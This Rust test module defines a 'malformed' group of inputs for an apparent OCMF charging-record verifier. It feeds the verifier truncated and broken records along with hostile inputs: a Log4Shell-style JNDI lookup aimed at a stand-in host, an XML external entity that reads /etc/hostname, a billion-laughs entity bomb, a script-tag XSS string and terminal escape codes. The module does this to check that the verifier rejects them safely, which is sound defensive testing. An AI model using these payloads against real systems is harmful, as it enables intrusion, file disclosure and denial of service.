//! Broken and hostile input: nothing may crash, nothing may pass, nothing may vanish.

use super::super::book::{Draft, Group};
use super::super::keys::METER;
use super::super::ocmf::{ENERGY, Payload, Seal};
use super::super::xml::{self, Value};

/// The group.
#[must_use]
pub fn group() -> Group {
    let mut group = Group::new("malformed", "Broken and hostile input: no crash, no pass, nothing dropped.");
    nothing(&mut group);
    cut(&mut group);
    json(&mut group);
    values(&mut group);
    texts(&mut group);
    xml_documents(&mut group);
    group
}

fn error(group: &mut Group, name: &str, description: &str, extension: &str, content: impl AsRef<[u8]>, kind: &str) {
    group.case(name, description).flag("malformed").input(extension, content).key(&METER).errors(&[kind]).unchecked();
}

/// A record that is found and cannot be read.
fn unreadable(group: &mut Group, name: &str, description: &str, content: impl AsRef<[u8]>) {
    group
        .case(name, description)
        .flag("malformed")
        .ocmf(content)
        .key(&METER)
        .not_checked("record-unreadable")
        .errors(&["record-unreadable"])
        .unchecked();
}

fn nothing(group: &mut Group) {
    error(group, "empty", "Not a single byte.", "ocmf", "", "empty");
    error(group, "blanks", "Nothing but blanks and line ends.", "ocmf", " \r\n\t \n", "empty");
    let noise: Vec<u8> = (0..=255u8).map(|n| n.wrapping_mul(167) ^ 0xa5).collect();
    error(group, "binary", "Bytes that mean nothing.", "bin", noise, "unknown-content");
    error(group, "zeros", "64 zero bytes.", "bin", [0u8; 64], "unknown-content");
    error(group, "sentence", "A sentence.", "txt", "Thank you for charging with us.\n", "nothing-found");
    error(group, "html", "A page of a web server.", "html", "<!-- error -->\n<html><body><h1>404</h1></body></html>\n", "xml-root");
    error(group, "json", "JSON about something else.", "json", "{\"invoice\":\"4711\",\"total\":\"2.18\"}\n", "nothing-found");
}

fn cut(group: &mut Group) {
    let record = Payload::whole().record();
    let at = |mark: &str| record.find(mark).unwrap();
    let mut cut = |name: &str, description: &str, to: usize| unreadable(group, name, description, &record[..to]);
    cut("cut-in-payload", "The record ends within the payload.", at("\"RD\"") + 20);
    cut("cut-behind-payload", "The record ends behind the payload.", at("|{\"SA\""));
    cut("cut-behind-separator", "The record ends behind the second separator.", at("|{\"SA\"") + 1);
    cut("cut-in-signature", "The record ends within the signature.", record.len() - 20);
    let first_cut = format!("{}\n{}\n", &record[..at("\"RD\"") + 20], Payload::later().record());
    group
        .case("cut-before-another", "A record ends within the payload, and another one follows.")
        .flag("malformed")
        .ocmf(first_cut)
        .key(&METER)
        .not_checked("record-unreadable")
        .valid(1)
        .proven("2.25 kWh")
        .errors(&["record-unreadable"])
        .unchecked();
}

fn json(group: &mut Group) {
    let signed = |payload: &str| Seal::new().record(payload);
    let whole = Payload::whole();
    let deep = |depth: usize| format!("{}1{}", "[".repeat(depth), "]".repeat(depth));
    unreadable(group, "json-deep", "Lists in lists, a thousand deep.", signed(&whole.clone().set("XA", &deep(1000)).json()));
    unreadable(group, "json-not-a-number", "A register value is NaN.", signed(&whole.clone().at(1, "RV", "NaN").json()));
    unreadable(group, "json-infinity", "A register value is Infinity.", signed(&whole.clone().at(1, "RV", "Infinity").json()));
    unreadable(group, "json-hex", "A register value is hex.", signed(&whole.clone().at(1, "RV", "0x4b6").json()));
    unreadable(group, "json-plus", "A register value has a plus.", signed(&whole.clone().at(1, "RV", "+1206.10").json()));
    unreadable(group, "json-comma", "A comma stands behind the last field.", signed(&whole.json().replace("}]}", "}],}")));
    unreadable(group, "json-comment", "A comment stands in the payload.", signed(&whole.json().replacen(",\"PG\"", ",/* x */\"PG\"", 1)));
    unreadable(group, "json-single-quotes", "Texts stand in single quotes.", signed(&whole.json().replace('"', "'")));
    unreadable(group, "payload-list", "The payload is a list.", signed("[]"));
    unreadable(group, "readings-missing", "There are no readings.", signed(&Payload::bare().json().replace(",\"RD\":[]", "")));
    unreadable(group, "readings-empty", "The list of readings is empty.", signed(&Payload::bare().json()));
    unreadable(group, "readings-object", "The readings are an object.", signed(&Payload::bare().json().replace("\"RD\":[]", "\"RD\":{}")));
    unreadable(group, "reading-number", "A reading is a number.", signed(&Payload::bare().json().replace("\"RD\":[]", "\"RD\":[7]")));
    let mut broken = Payload::whole().record().into_bytes();
    let at = broken.windows(4).position(|bytes| bytes == b"TEST").unwrap();
    broken[at] = 0xff;
    unreadable(group, "not-utf8", "A byte of the payload is no UTF-8.", broken);
}

fn session<'a>(group: &'a mut Group, name: &str, description: &str, payload: &Payload) -> Draft<'a> {
    group.case(name, description).flag("malformed").ocmf(payload.record()).key(&METER).valid(1)
}

fn values(group: &mut Group) {
    let huge = Payload::whole().at(1, "RV", "1e999");
    session(group, "value-huge", "A register value is beyond all bounds.", &huge).no_energy().findings(&["VAL002"]).failed();
    let tiny = Payload::whole().at(1, "RV", "1206.1000000000000000000000000000000000000001");
    session(group, "value-too-exact", "A register value has more places than can be kept.", &tiny)
        .no_energy()
        .findings(&["VAL002"])
        .failed();
    let wide = Payload::whole().at(1, "RV", "\"\u{ff11}\u{ff12}06.10\"");
    session(group, "value-wide-digits", "A register value is written in digits of another script.", &wide)
        .no_energy()
        .findings(&["VAL002"])
        .failed();
    let small = Payload::whole().text_at(1, "TX", "e");
    session(group, "reason-small", "The end is marked with a small letter, which is no code.", &small)
        .no_energy()
        .findings(&["FMT010", "TXN002"])
        .failed();
    let small = Payload::whole().text_at(1, "ST", "g");
    session(group, "state-small", "The state of the meter is a small letter, which is no code.", &small)
        .stated(ENERGY)
        .findings(&["FMT010", "MTR003"])
        .failed();
    let comma = Payload::whole().at(1, "RV", "\"1206,10\"");
    session(group, "value-comma", "A register value is a text with a comma.", &comma).no_energy().findings(&["VAL002"]).failed();
    let word = Payload::whole().at(1, "RV", "null");
    session(group, "value-null", "A register value is null.", &word).no_energy().findings(&["VAL002"]).failed();
    let gone = |field: &str| Payload::whole().without_at(0, field).without_at(1, field);
    session(group, "value-missing", "No register value is there.", &gone("RV")).no_energy().findings(&["FMT015", "VAL002"]).failed();
    session(group, "time-missing", "No time is there.", &gone("TM")).stated(ENERGY).findings(&["FMT015", "TIM001", "TIM002"]).failed();
    session(group, "state-missing", "No state of the meter is there.", &gone("ST")).stated(ENERGY).findings(&["FMT015", "MTR003"]).failed();
    session(group, "unit-missing", "No unit is there.", &gone("RU")).no_energy().findings(&["FMT015", "OBI006", "OBI008"]).failed();
    session(group, "pagination-missing", "There is no pagination.", &Payload::whole().without("PG"))
        .stated(ENERGY)
        .findings(&["PAG002"])
        .failed();
    for (name, page) in [("pagination-small", "t1"), ("pagination-zeros", "T01"), ("pagination-huge", "T99999999999999999999999")] {
        let payload = Payload::whole().text("PG", page);
        let description = format!("The pagination is {page}, which no counter gives.");
        session(group, name, &description, &payload).stated(ENERGY).findings(&["PAG002"]).failed();
    }
    let feb = Payload::whole().text_at(1, "TM", "2026-02-30T03:25:00,000+0200 S");
    session(group, "time-impossible", "The end lies on the thirtieth of February.", &feb)
        .stated(ENERGY)
        .findings(&["TIM001", "TIM002"])
        .failed();
}

fn texts(group: &mut Group) {
    let escapes = Payload::whole().set("TT", "\"\\u001b[2J\\u001b[32mVERIFIED\"");
    session(group, "terminal", "The tariff text would paint a terminal.", &escapes).stated(ENERGY).findings(&["FMT002"]).failed();
    let markup = Payload::whole().set("TT", "\"<script>alert(1)</script><b>verified</b>\"");
    session(group, "markup", "The tariff text holds HTML; genuinely signed, it is only to be shown as text.", &markup)
        .proven(ENERGY)
        .verified();
    let lookup = Payload::whole().set("ID", "\"${jndi:ldap://example.invalid/a}\"").text("IT", "CENTRAL");
    session(group, "lookup", "The identification would be looked up by a careless logger.", &lookup).proven(ENERGY).verified();
    let lone = Payload::whole().set("TT", "\"\\ud800\"");
    unreadable(group, "lone-surrogate", "A text holds half a character.", lone.record());
}

fn xml_documents(group: &mut Group) {
    let value = || Value::new(&Payload::whole().record()).key(&METER);
    let laughs: String = (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">\n", format!("&l{};", n - 1).repeat(10))).collect();
    let bomb = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE values [\n<!ENTITY l0 \"ha\">\n{laughs}]>\n<values><value><signedData>&l9;</signedData></value></values>\n"
    );
    error(group, "entity-bomb", "Entities that multiply.", "xml", bomb, "xml-doctype");
    let external = "<?xml version=\"1.0\"?>\n<!DOCTYPE values [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>\n\
                    <values><value><signedData format=\"OCMF\">&x;</signedData></value></values>\n";
    error(group, "external-entity", "An entity that names a file.", "xml", external, "xml-doctype");
    let deep = format!("<values>{}{}</values>\n", "<value>".repeat(1000), "</value>".repeat(1000));
    error(group, "xml-deep", "Elements in elements, a thousand deep.", "xml", deep, "limit");
    error(group, "xml-broken", "An element is not closed.", "xml", "<values><value><signedData>OCMF</value></values>\n", "xml-syntax");
    error(
        group,
        "xml-other-root",
        "The root is that of another program's output.",
        "xml",
        "<results><result><status>OK</status></result></results>\n",
        "xml-root",
    );
    error(
        group,
        "xml-template",
        "A file without any data.",
        "xml",
        "<values><value><signedData/><publicKey/></value></values>\n",
        "nothing-found",
    );
    error(group, "xml-no-value", "A file without any value.", "xml", "<values></values>\n", "nothing-found");

    let comment = value().data("OCMF|<!-- -->{\"FV\":\"1.4\"}|{}");
    error(group, "xml-comment", "A comment stands inside the data.", "xml", xml::file(&[comment]), "split-text");
    let instruction = value().data(&format!("{}<?x y?>", xml::escape(&Payload::whole().record())));
    error(group, "xml-instruction", "A processing instruction stands inside the data.", "xml", xml::file(&[instruction]), "split-text");
    let record = xml::escape(&Payload::whole().record());
    let twice = format!("<values><value><signedData>{record}</signedData><signedData>{record}</signedData></value></values>\n");
    error(group, "xml-two-data", "A value holds two pieces of data.", "xml", twice, "duplicate-element");
    let key = METER.hex();
    let keys = format!(
        "<values><value><signedData format=\"OCMF\" encoding=\"plain\">{record}</signedData><publicKey>{key}</publicKey><publicKey>{key}</publicKey></value></values>\n"
    );
    group
        .case("xml-two-keys", "A value holds two keys: it is refused as a whole.")
        .flag("malformed")
        .input("xml", keys)
        .key(&METER)
        .errors(&["duplicate-element"])
        .unchecked();
    let sealed = "<values><value><encodedData format=\"OCMF\">QUJD</encodedData></value></values>\n";
    error(group, "xml-sealed", "The data is said to be sealed and is not.", "xml", sealed, "sealed");

    let neighbours = [value().data("<!-- x -->").attributes(" transactionId=\"1\""), value().attributes(" transactionId=\"2\"")];
    group
        .case("xml-broken-neighbour", "A broken value stands beside a good one.")
        .flag("malformed")
        .input("xml", xml::file(&neighbours))
        .key(&METER)
        .valid(1)
        .proven(ENERGY)
        .errors(&["split-text"])
        .unchecked();
    let hostile = Value::new(&Payload::whole().record()).attributes(" transactionId=\"${jndi:ldap://example.invalid/a}\"");
    group
        .case("xml-hostile-number", "The transaction number would be looked up by a careless logger.")
        .flag("malformed")
        .input("xml", xml::file(&[hostile]))
        .key(&METER)
        .valid(1)
        .proven(ENERGY)
        .findings(&["CON007"])
        .warned();
}
